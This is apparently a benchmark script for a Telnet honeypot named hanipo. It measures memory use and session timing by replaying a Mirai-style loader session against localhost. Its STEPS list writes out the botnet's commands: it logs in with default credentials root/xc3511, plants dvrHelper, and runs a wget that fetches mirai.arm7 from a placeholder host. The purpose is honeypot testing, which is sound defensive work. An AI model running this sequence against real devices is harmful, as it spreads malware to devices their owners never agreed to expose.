#!/usr/bin/python3
"""telnet.py - what the Telnet sensor and its fake shell cost: hanipo's RSS idle (HTTP and Telnet
listening), then with N Mirai-style sessions logged in at once, each having run the loader's
steps (files written in its in-memory file system), and the time for a whole loader session against
hanipo compared with the same script against a reference server in this run (a Python loop that
answers every line with a fixed prompt, storing nothing), printed as a ratio.
Usage: bench/telnet.py [N] (default 500). Never part of make test."""
import os
import socket
import subprocess
import sys
import tempfile
import time

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
HANIPO = os.path.join(ROOT, os.environ.get("BUILD", "build"), "hanipo")
N = int(sys.argv[1]) if len(sys.argv) > 1 else 500
TOK = b"ECCHI"
STEPS = [b"enable", b"shell", b"sh", b"/bin/busybox " + TOK,
         b"/bin/busybox cat /proc/mounts; /bin/busybox " + TOK,
         b"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat "
         b"/tmp/.nippon; /bin/busybox rm /tmp/.nippon; /bin/busybox " + TOK,
         b"cd /tmp/; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 "
         b"dvrHelper; /bin/busybox " + TOK,
         b"/bin/busybox cat /bin/echo; /bin/busybox " + TOK,
         b"/bin/busybox wget; /bin/busybox tftp; /bin/busybox " + TOK,
         b"/bin/busybox wget http://192.0.2.1/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox " + TOK]


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def rss_kb(pid):
    with open(f"/proc/{pid}/status") as f:
        return next(int(l.split()[1]) for l in f if l.startswith("VmRSS"))


def wait_port(port):
    for _ in range(100):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
            return
        except OSError:
            time.sleep(0.1)
    raise SystemExit("telnet.py: server did not start")


def read_until(s, want):
    got = b""
    while want not in got:
        d = s.recv(65536)
        if not d:
            raise SystemExit(f"telnet.py: closed, got {got[-200:]!r}")
        got += d
    return got


def session(port, keep=False):
    s = socket.create_connection(("127.0.0.1", port), timeout=30)
    read_until(s, b"login: ")
    s.sendall(b"root\r\n")
    read_until(s, b"Password: ")
    s.sendall(b"xc3511\r\n")
    read_until(s, b"# ")
    for step in STEPS:
        s.sendall(step + b"\r\n")
        read_until(s, b"# " if TOK not in step else TOK + b": applet not found")
    if keep:
        return s
    s.close()
    return None


REF = r'''
import socket, sys, threading
ls = socket.socket(); ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
ls.bind(("127.0.0.1", int(sys.argv[1]))); ls.listen(1024)
def serve(c):
    c.sendall(b"login: "); buf = b""; n = 0
    while True:
        d = c.recv(65536)
        if not d: return
        buf += d
        while b"\r\n" in buf:
            line, buf = buf.split(b"\r\n", 1); n += 1
            c.sendall(b"Password: " if n == 1 else b"ECCHI: applet not found\r\n# ")
while True:
    c, _ = ls.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
'''


def timed(port, rounds=200):
    t = time.monotonic()
    for _ in range(rounds):
        session(port)
    return (time.monotonic() - t) / rounds


def main():
    tmp = tempfile.mkdtemp()
    hp, tp, rp = free_port(), free_port(), free_port()
    conf = os.path.join(tmp, "h.conf")
    with open(conf, "w") as f:
        f.write(f"[store]\npath = {tmp}/h.db\n[log]\naccess_log =\nhunting_log =\nlevel = warn\n"
                f"[limits]\nmax_connections_per_source = {N + 10}\ntotal_timeout = 600\n"
                f"idle_timeout = 600\n[http]\nlisten = 127.0.0.1:{hp}\nrules = "
                f"{ROOT}/data/art\n[telnet]\nlisten = 127.0.0.1:{tp}\naccept = any\n")
    h = subprocess.Popen([HANIPO, "run", "-c", conf], stderr=subprocess.DEVNULL)
    ref = subprocess.Popen([sys.executable, "-c", REF, str(rp)])
    try:
        wait_port(tp)
        wait_port(rp)
        time.sleep(0.5)
        idle = rss_kb(h.pid)
        print(f"RSS idle (http + telnet listening): {idle / 1024:.1f} MB")
        socks = [session(tp, keep=True) for _ in range(N)]
        busy = rss_kb(h.pid)
        print(f"RSS with {N} logged-in shells after the loader steps: {busy / 1024:.1f} MB "
              f"({(busy - idle) / N:.1f} KB per session)")
        for s in socks:
            s.close()
        r = min(timed(rp), timed(rp))
        t = min(timed(tp), timed(tp))
        print(f"loader session: reference {r * 1000:.2f} ms, hanipo {t * 1000:.2f} ms, "
              f"ratio hanipo/ref {t / r:.2f}")
    finally:
        h.terminate()
        ref.terminate()
        h.wait()
        ref.wait()


main()
